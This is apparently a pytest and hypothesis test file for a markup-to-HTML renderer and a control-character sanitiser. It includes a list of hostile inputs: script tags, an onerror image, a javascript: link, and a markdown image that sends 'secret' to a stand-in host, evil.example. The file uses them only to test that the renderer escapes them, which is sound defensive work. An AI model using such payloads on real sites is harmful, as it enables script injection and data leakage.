from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from gnomon.markup import to_html, visible


class Seen(HTMLParser):
    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags, self.attributes, self.text = list[str](), list[object](), ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes += attrs

    def handle_data(self, data: str) -> None:
        self.text += data


HOSTILE = (
    "<script>alert(1)</script>",
    "</p></div></script><script>alert(1)</script>",
    "![leak](https://evil.example/a.png?q=secret)",
    '<img src=x onerror="alert(1)">',
    "[click](javascript:alert(1))",
    "<!-- <b> -->",
    "&lt;script&gt; &amp;lt; &#x3c;script>",
    "`<b>` ~<i>~",
)


@pytest.mark.parametrize("text", HOSTILE)
@pytest.mark.parametrize("around", ["{}", "```\n{}\n```", "```html\n{}", "one\n\n{}\ntwo"])
def test_hostile_text_is_shown_as_the_text_it_is(text, around):
    seen = Seen(to_html(around.format(text)))
    assert set(seen.tags) <= {"p", "br", "pre", "code"}
    assert seen.attributes == []
    assert text in seen.text


@given(st.text(st.characters() | st.sampled_from("`~<>&\"'/!-\n")))
def test_no_text_makes_any_other_tag_or_loses_a_word(text):
    html = to_html(text)
    seen = Seen(html)
    html.encode("utf-8")
    assert set(seen.tags) <= {"p", "br", "pre", "code"}
    assert not seen.attributes
    kept = "".join(seen.text.split())
    words = [
        word
        for line in visible(text).split("\n")
        if "```" not in line and "~~~" not in line
        for word in line.split()
    ]
    assert all(word in kept for word in words)


def test_blank_lines_make_paragraphs_and_newlines_breaks():
    assert to_html("one\ntwo\r\n\n \nthree") == "<p>one<br>two</p><p>three</p>"
    assert to_html("\n \n") == ""


def test_fenced_code_keeps_its_lines_and_runs_to_the_end_where_it_is_not_closed():
    assert (
        to_html("a\n```python\nx = 1\n\n  y\n```\nb")
        == "<p>a</p><pre><code>x = 1\n\n  y</code></pre><p>b</p>"
    )
    assert to_html("~~~\n```\n<b>\n") == "<pre><code>```\n&lt;b&gt;\n</code></pre>"
    assert to_html("````\n```\nx\n````") == "<pre><code>```\nx</code></pre>"
    assert to_html("say ```this``` aloud") == "<p>say ```this``` aloud</p>"


def test_control_characters_are_pictures_that_neither_a_terminal_nor_a_file_obeys():
    assert visible("\x1b[31m\x00\x07\x7f\r") == "␛[31m␀␇␡␍"
    assert visible("\x9b31m\ud800") == "\ufffd31m\ufffd"
    assert visible("tab\tand\r\nline é 面包") == "tab\tand\nline é 面包"
